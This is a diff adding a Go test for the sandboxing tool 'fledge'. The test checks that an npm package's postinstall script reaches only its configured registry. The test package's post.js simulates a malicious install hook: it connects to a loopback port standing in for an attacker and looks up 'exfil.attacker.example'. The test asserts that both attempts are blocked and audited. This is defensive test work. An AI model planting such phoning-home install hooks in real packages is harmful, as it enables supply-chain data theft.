@@ -5,7 +5,9 @@ import (
 	"context"
 	"encoding/json"
 	"fmt"
+	"io"
 	"net"
+	"net/http"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -283,6 +285,113 @@ func TestNPMInstallScriptConfined(t *testing.T) {
 	assert.Contains(t, string(stolen), fakeKey)
 	assert.FileExists(t, filepath.Join(f.home, ".bashrc"))
 	assert.Eventually(t, phoned.Load, 5*time.Second, 50*time.Millisecond, "unconfined, the script reaches the listener")
+}
+
+// An npm package's install scripts reach the registry npm is configured for, by name
+// through fledge's network by destination, and nothing else: here the registry is a server
+// of the test's on loopback (named by address, as a grant of loopback must), the script
+// fetches from it and then tries another loopback port, which stands for the attacker.
+func TestNPMInstallScriptReachesOnlyTheRegistry(t *testing.T) {
+	npmInstall(t, pkgSDK)
+	fledge := buildFledge(t)
+	f := newFixture(t, nil)
+	c := &fledgeCLI{t: t, f: f, fledge: fledge}
+
+	var probes atomic.Int64
+	reg, err := net.Listen("tcp", "127.0.0.1:0")
+	require.NoError(t, err)
+	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/probe" {
+			probes.Add(1)
+			_, _ = io.WriteString(w, "registry-answered")
+			return
+		}
+		http.NotFound(w, r)
+	}), ReadHeaderTimeout: 5 * time.Second}
+	go func() { _ = srv.Serve(reg) }()
+	defer srv.Close()
+	regPort := reg.Addr().(*net.TCPAddr).Port
+
+	evil, err := net.Listen("tcp", "127.0.0.1:0")
+	require.NoError(t, err)
+	defer evil.Close()
+	var phoned atomic.Bool
+	go func() {
+		for {
+			conn, err := evil.Accept()
+			if err != nil {
+				return
+			}
+			phoned.Store(true)
+			conn.Close()
+		}
+	}()
+	evilPort := evil.Addr().(*net.TCPAddr).Port
+
+	src := filepath.Join(f.base, "fetcher")
+	require.NoError(t, os.MkdirAll(src, 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(src, "package.json"), []byte(`{"name":"fetcher-mcp","version":"1.0.0",
+  "bin":{"fetcher-mcp":"server.js"},"scripts":{"postinstall":"node ./post.js"}}`), 0o644))
+	require.NoError(t, os.WriteFile(filepath.Join(src, "server.js"), []byte("console.log('hi')\n"), 0o644))
+	post := fmt.Sprintf(`const fs = require('fs'), net = require('net');
+fetch('http://127.0.0.1:%d/probe').then(r => r.text()).then(t => {
+  fs.writeFileSync('registry.txt', t);
+  const s = net.connect(%d, '127.0.0.1');
+  s.on('connect', () => { fs.writeFileSync('phoned.txt', 'yes'); s.end(); });
+  s.on('error', () => fs.writeFileSync('phoned.txt', 'refused'));
+  require('dns').lookup('exfil.attacker.example', (err) => fs.writeFileSync('dns.txt', err ? err.code : 'resolved'));
+}).catch(e => { fs.writeFileSync('registry.txt', 'failed: ' + e); });
+`, regPort, evilPort)
+	require.NoError(t, os.WriteFile(filepath.Join(src, "post.js"), []byte(post), 0o644))
+	npm, err := exec.LookPath("npm")
+	require.NoError(t, err)
+	pack := exec.Command(npm, "pack", "--pack-destination", f.base)
+	pack.Dir, pack.Env = src, c.env()
+	b, err := pack.CombinedOutput()
+	require.NoError(t, err, string(b))
+	tgz := filepath.Join(f.base, "fetcher-mcp-1.0.0.tgz")
+
+	cmd := exec.Command(fledge, "--ni", "plugins", "install", "npm:fetcher-mcp", "--version", "file:"+tgz, "--yes")
+	cmd.Dir = f.project
+	cmd.Env = c.env(fmt.Sprintf("npm_config_registry=http://127.0.0.1:%d/", regPort))
+	var stdout, stderr bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &stdout, &stderr
+	err = cmd.Run()
+	dest := fmt.Sprintf("127.0.0.1:%d", regPort)
+	assert.Contains(t, stderr.String(), "network only to "+dest)
+	pluginDir := filepath.Join(f.configDir, "plugins", "fetcher-mcp")
+	got, _ := os.ReadFile(filepath.Join(pluginDir, "node_modules", "fetcher-mcp", "registry.txt"))
+	assert.Equal(t, "registry-answered", string(got), "the script reached the registry (install: %v\n%s\n%s)", err, stdout.String(), stderr.String())
+	assert.GreaterOrEqual(t, probes.Load(), int64(1))
+	phonedTxt, _ := os.ReadFile(filepath.Join(pluginDir, "node_modules", "fetcher-mcp", "phoned.txt"))
+	assert.Equal(t, "refused", string(phonedTxt))
+	assert.False(t, phoned.Load(), "the install script reached a port that is not the registry")
+	dnsTxt, _ := os.ReadFile(filepath.Join(pluginDir, "node_modules", "fetcher-mcp", "dns.txt"))
+	assert.Equal(t, "ENOTFOUND", string(dnsTxt), "a name that is not the registry does not resolve")
+
+	var decided, allowed, denied bool
+	for _, r := range f.records(audit.EventExecDecision) {
+		if r.Details["hook"] == "npm-install-scripts" {
+			decided = true
+			assert.Equal(t, []any{dest}, r.Details["network_to"])
+		}
+	}
+	for _, r := range f.records("net_connect") {
+		if r.Decision == audit.Allow && fmt.Sprint(r.Details["port"]) == fmt.Sprint(regPort) {
+			allowed = true
+		}
+	}
+	// The other loopback port is the hook's own namespace's, where nothing listens: the
+	// kernel there refuses it, and nothing reaches fledge to record. A name that is not
+	// the registry is answered by fledge (NXDOMAIN) and recorded.
+	for _, r := range f.records("net_dns") {
+		if r.Decision == audit.Deny && r.Details["host"] == "exfil.attacker.example" {
+			denied = true
+		}
+	}
+	assert.True(t, decided, "the hook's decision names its destinations")
+	assert.True(t, allowed, "the registry connection is on record")
+	assert.True(t, denied, "the refused lookup is on record")
 }
 
 // A registry that cannot be reached is a clear error and leaves nothing installed.
